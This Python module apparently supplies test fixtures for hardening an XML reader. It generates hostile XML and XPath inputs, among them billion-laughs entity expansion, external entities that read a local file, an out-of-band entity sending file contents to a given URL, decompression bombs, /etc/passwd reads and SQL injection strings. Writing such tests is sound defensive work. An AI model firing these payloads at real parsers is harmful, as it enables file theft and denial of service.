"""Hostile messages, made when they are asked for: what a stranger sends to a reader of XML.

Each says what must become of it: `refused`, with a reason, or `harmless`: read as the few plain
nodes that it is. None may read a file, call a server, take memory that its size does not account
for, or show the canary that lies in a file beside it.
"""

from __future__ import annotations

import bz2
import gzip
import zlib
from dataclasses import dataclass
from functools import cache
from typing import TYPE_CHECKING, Literal

if TYPE_CHECKING:
    from collections.abc import Iterator

__all__ = ["CANARY", "Attack", "attacks", "bomb", "statements"]

CANARY = "canary-7f3a91"
"""What lies in the file that external entities point at: it must not be seen anywhere."""


@dataclass(frozen=True, slots=True)
class Attack:
    """A message, and what must become of it."""

    name: str
    body: bytes
    wanted: Literal["refused", "harmless", "either"]


def attacks(file: str, url: str, *, limit: int = 1 << 20) -> Iterator[Attack]:
    """All of them: `file` has the canary, `url` must never be called, `limit` is that of bytes."""
    yield from _entities()
    yield from _outside(file, url)
    yield from _sizes(limit)
    yield from _bytes()
    yield from _packed()
    yield from _odd()


# --- entities ---------------------------------------------------------------------------------


def _entities() -> Iterator[Attack]:
    yield _refused("billion laughs", _laughs(10, 10))
    yield _refused("billion laughs in an attribute", _laughs(10, 10, "<a b='&e9;'/>"))
    yield _refused("billion laughs, few and deep", _laughs(30, 2, "<a>&e29;</a>"))
    large = "x" * 50_000
    many = "&x;" * 20_000
    yield _refused("quadratic blow-up", f"<!DOCTYPE a [<!ENTITY x '{large}'>]><a>{many}</a>")
    parameter = "<!ENTITY % a 'x'><!ENTITY % b '%a;%a;'><!ENTITY % c '%b;%b;'>%c;"
    yield _refused("parameter entities", f"<!DOCTYPE a [{parameter}]><a/>")
    yield _refused("entities that lead in a circle", _circle("<a>&x;</a>"))
    yield _refused("... in an attribute", _circle("<a b='&x;'/>"))
    yield _refused("an entity nobody declared", "<a>&secret;</a>")
    yield _refused("a bare DOCTYPE", "<!DOCTYPE a><a/>")
    yield _refused("a DOCTYPE behind a comment", "<!-- c --><!DOCTYPE a []><a/>")
    yield _refused("an attribute by default", "<!DOCTYPE a [<!ATTLIST a k CDATA 'b1'>]><a/>")
    yield _refused("an entity with markup", "<!DOCTYPE a [<!ENTITY m '<b>1</b>'>]><a>&m;</a>")
    yield _harmless("the five entities of XML", "<a>&lt;!DOCTYPE a&gt;&amp;&quot;&apos;</a>")
    yield _harmless("markup that is only text", "<a><![CDATA[<!DOCTYPE a [<!ENTITY x 'y'>]>]]></a>")


def _laughs(levels: int, times: int, root: str = "<a>&e9;</a>") -> str:
    more = [f"<!ENTITY e{level} '{f'&e{level - 1};' * times}'>" for level in range(1, levels)]
    lines = ["<!ENTITY e0 'lol'>", *more]
    return f"<!DOCTYPE a [{''.join(lines)}]>{root}"


def _circle(root: str) -> str:
    return f"<!DOCTYPE a [<!ENTITY x '&y;'><!ENTITY y '&x;'>]>{root}"


# --- what lies outside ------------------------------------------------------------------------


def _outside(file: str, url: str) -> Iterator[Attack]:
    for name, place in (("file", f"file://{file}"), ("http", url), ("a bare path", file)):
        yield _refused(f"an external entity, {name}", _external(f"SYSTEM '{place}'"))
        yield _refused(f"an external DTD, {name}", f"<!DOCTYPE a SYSTEM '{place}'><a/>")
        yield _refused(
            f"an external parameter entity, {name}",
            f"<!DOCTYPE a [<!ENTITY % p SYSTEM '{place}'>%p;]><a/>",
        )
    yield _refused("an external entity by a public name", _external(f"PUBLIC 'x' '{url}'"))
    yield _refused("an external entity of a wrapper", _external("SYSTEM 'php://filter/x'"))
    yield _refused("a DTD by a public name", f"<!DOCTYPE a PUBLIC '-//x' '{url}'><a/>")
    out = f"<!ENTITY % f SYSTEM 'file://{file}'><!ENTITY % s '<!ENTITY e SYSTEM \"{url}?%f;\">'>%s;"
    yield _refused("a file sent out of band", f"<!DOCTYPE a [{out}]><a>&e;</a>")
    include = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    yield _harmless("XInclude", f"<a {include}><xi:include href='{file}' parse='text'/></a>")
    yield _harmless("XInclude of XML", f"<a {include}><xi:include href='{url}'/></a>")
    schema = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    yield _harmless("a schema to fetch", f"<a {schema} xsi:schemaLocation='urn:x {url}'/>")
    yield _harmless("a style sheet", f"<?xml-stylesheet href='{url}' type='text/xsl'?><a/>")
    yield _harmless("another base", f"<a xml:base='file://{file}'><b/></a>")
    yield _harmless("a processing instruction", "<?php system('id'); ?><a><?x y?></a>")


def _external(what: str) -> str:
    return f"<!DOCTYPE a [<!ENTITY x {what}>]><a>&x;</a>"


# --- sizes ------------------------------------------------------------------------------------


def _sizes(limit: int) -> Iterator[Attack]:
    yield _refused("deep nesting", "<a>" * 10_000 + "</a>" * 10_000)
    yield _refused("deep nesting without an end", "<a>" * 50_000)
    yield _harmless("nesting that is allowed", "<a>" * 200 + "</a>" * 200)
    yield Attack(
        "very many attributes",
        ("<a " + " ".join(f"n{n}='{n}'" for n in range(20_000)) + "/>").encode(),
        "either",
    )
    collide = " ".join(f"a{n}='' A{n}=''" for n in range(10_000))
    yield Attack("attributes that look alike", f"<a {collide}/>".encode(), "either")
    spaces = " ".join(f"xmlns:p{n}='urn:{n}'" for n in range(10_000))
    yield Attack("very many namespaces", f"<a {spaces}/>".encode(), "either")
    deep = "".join(f"<a xmlns:p{n}='urn:{n}'>" for n in range(200)) + "</a>" * 200
    yield _harmless("namespaces at every level", deep)
    yield _refused("the same attribute twice", "<a b='1' b='2'/>")
    yield _refused(
        "the same attribute by two prefixes", "<a xmlns:p='u' xmlns:q='u' p:b='' q:b=''/>"
    )
    yield Attack("a huge name", b"<" + b"n" * 100_000 + b"/>", "either")
    yield Attack("a huge attribute name", b"<a " + b"n" * 100_000 + b"='1'/>", "either")
    yield Attack("a huge namespace", b"<a xmlns='" + b"u" * 100_000 + b"'/>", "either")
    yield Attack("a huge comment", b"<a><!--" + b"x" * 500_000 + b"--></a>", "either")
    yield Attack("a huge instruction", b"<a><?x " + b"x" * 500_000 + b"?></a>", "either")
    yield Attack("very many elements", b"<a>" + b"<b/>" * 100_000 + b"</a>", "either")
    yield Attack("very many texts", b"<a>" + b"<b/>x" * 80_000 + b"</a>", "either")
    yield _refused("more bytes than allowed", "<a>" + "x" * limit + "</a>")
    yield _refused("white space without an end", " " * (limit + 1))


# --- bytes ------------------------------------------------------------------------------------


def _bytes() -> Iterator[Attack]:
    doctype = "<!DOCTYPE a [<!ENTITY x 'boom'>]><a>&x;</a>"
    for code in ("utf-16", "utf-16-le", "utf-16-be", "utf-32", "utf-8-sig"):
        yield Attack(f"a DOCTYPE in {code}", doctype.encode(code), "refused")
    head = "<?xml version='1.0' encoding='{}'?>"
    yield _refused(
        "a DOCTYPE in UTF-16, declared as such", (head.format("utf-16") + doctype).encode("utf-16")
    )
    utf7 = head.format("utf-7").encode() + b"+ADw-!DOCTYPE a+AD4-+ADw-a/+AD4-"
    yield Attack("a DOCTYPE in UTF-7", utf7, "refused")
    yield Attack("UTF-7 in UTF-8", b"<a>+ADw-b/+AD4-</a>", "harmless")
    yield Attack("a DOCTYPE in EBCDIC", (head.format("cp037") + doctype).encode("cp037"), "refused")
    yield _refused("an encoding that is not there", head.format("x-none") + "<a/>")
    yield _refused("an encoding with a path", head.format("../../etc/passwd") + "<a/>")
    yield _refused("an encoding of great length", head.format("x" * 10_000) + "<a/>")
    yield _refused("UTF-8 that says it is UTF-16", head.format("utf-16") + "<a/>")
    yield Attack("bytes that are not UTF-8", b"<a>\xff\xfe\xfd</a>", "refused")
    yield Attack("overlong UTF-8", b"<a>\xc0\xbcb\xc0\xbe</a>", "refused")
    yield Attack("half of a surrogate", b"<a>\xed\xa0\x80</a>", "refused")
    yield Attack("a null byte in a text", b"<a>x\x00y</a>", "refused")
    yield Attack("a null byte in a name", b"<a\x00b/>", "refused")
    yield Attack("a null byte behind the root", b"<a/>\x00", "refused")
    yield Attack("a null byte by number", b"<a>&#0;</a>", "refused")
    yield Attack("control characters", b"<a>\x01\x08\x1b[2J</a>", "refused")
    yield Attack("a control character by number", b"<a>&#x1b;</a>", "refused")
    yield Attack("a character beyond Unicode", b"<a>&#x110000;</a>", "refused")
    yield Attack("a number without an end", b"<a>&#" + b"9" * 100_000 + b";</a>", "refused")
    yield Attack("XML 1.1", b"<?xml version='1.1'?><a>&#1;</a>", "refused")
    yield Attack("directions turned round", "<a b='\u202e\u2066'>\u200b</a>".encode(), "harmless")
    yield Attack("only a byte order mark", b"\xef\xbb\xbf", "refused")


# --- packed -----------------------------------------------------------------------------------


@cache
def bomb() -> bytes:
    """Sixteen megabytes in some thousand bytes."""
    return gzip.compress(b"<a>" + b"0" * (16 << 20) + b"</a>")


def _packed() -> Iterator[Attack]:
    zeros = b"<a>" + b"0" * (4 << 20) + b"</a>"
    yield Attack("a gzip bomb", bomb(), "refused")
    yield Attack("a gzip bomb, twice", gzip.compress(bomb()), "refused")
    yield Attack("a zlib bomb", zlib.compress(zeros), "refused")
    yield Attack("a bzip2 bomb", bz2.compress(zeros), "refused")
    yield Attack("gzip that is cut off", gzip.compress(b"<a/>")[:-6], "refused")
    yield Attack("a zip archive", b"PK\x03\x04" + b"\x00" * 100, "refused")


# --- the odd ones -----------------------------------------------------------------------------


def _odd() -> Iterator[Attack]:
    for name, body in (
        ("nothing", b""),
        ("white space", b" \n\t"),
        ("text", b"hello"),
        ("JSON", b'{"a": 1}'),
        ("HTML", b"<html><br><p>x</html>"),
        ("cut off in a tag", b"<a><b c='"),
        ("cut off in a text", b"<a><b>text"),
        ("cut off in a comment", b"<a><!-- "),
        ("cut off in CDATA", b"<a><![CDATA[ "),
        ("cut off in an instruction", b"<a><?x "),
        ("two roots", b"<a/><b/>"),
        ("text behind the root", b"<a/>x"),
        ("tags that cross", b"<a><b></a></b>"),
        ("a prefix nobody declared", b"<p:a/>"),
        ("xmlns taken away", b"<a xmlns:p='u'><b xmlns:p=''/></a>"),
        ("xml bound elsewhere", b"<a xmlns:xml='urn:x'/>"),
        ("a declaration in the middle", b"<a><?xml version='1.0'?></a>"),
        ("a declaration behind a space", b" <?xml version='1.0'?><a/>"),
        ("a lower than sign in an attribute", b"<a b='<'/>"),
        ("the end of CDATA in a text", b"<a>]]></a>"),
        ("two dashes in a comment", b"<a><!-- -- --></a>"),
    ):
        yield Attack(name, body, "refused")
    statement = "'] | //* | //a['"
    yield _harmless("XPath in a text", f'<a k="{statement}">{statement}</a>')
    yield _harmless(
        "a label that is none", "<a xmlns:fm='urn:fmware' fm:mi='-1'><b fm:mi='x'/></a>"
    )
    yield _harmless(
        "a label beyond all", "<book xmlns:fm='urn:fmware' fm:mi='99999999999999999999'/>"
    )
    yield _harmless("SQL in a key", '<book key="\'; DROP TABLE statements; --"/>')
    yield _harmless("a key of great length", f"<book key='{'k' * 100_000}'/>")
    yield _harmless("a script in a text", "<a>&lt;script&gt;alert(1)&lt;/script&gt;</a>")


def _refused(name: str, text: str | bytes) -> Attack:
    return Attack(name, text if isinstance(text, bytes) else text.encode(), "refused")


def _harmless(name: str, text: str) -> Attack:
    return Attack(name, text.encode(), "harmless")


def statements() -> Iterator[tuple[str, str]]:
    """Hostile statements, by name: each is refused, or runs within the limits of work."""
    yield "deep predicates", "//a" + "[b" * 5000 + "]" * 5000
    yield "parentheses without an end", "//a[" + "(" * 50_000 + "b" + ")" * 50_000 + "]"
    yield "very many steps", "//a" * 5000
    yield "very many terms", "//a[" + " or ".join(f"b{n} = {n}" for n in range(5000)) + "]"
    yield "wildcards behind wildcards", "//*" * 60
    yield "wildcards within wildcards", "//*[.//*[.//*[.//*[.//*[.//*]]]]]"
    yield "a literal of great length", f"//a[b = '{'x' * 1_000_000}']"
    yield "a number of great length", f"//a[b > {'9' * 100_000}]"
    yield "functions that read files", "//a[document('/etc/passwd')]"
    yield "functions that sleep", "//a[sleep(1000)]"
    yield "another statement behind it", "//a; DROP TABLE statements"
    yield "a regular expression", "//a[matches(., '(a+)+$')]"
    yield "a null byte", "//a\x00"
    yield "half of a surrogate", "//a[b = '\ud800']"
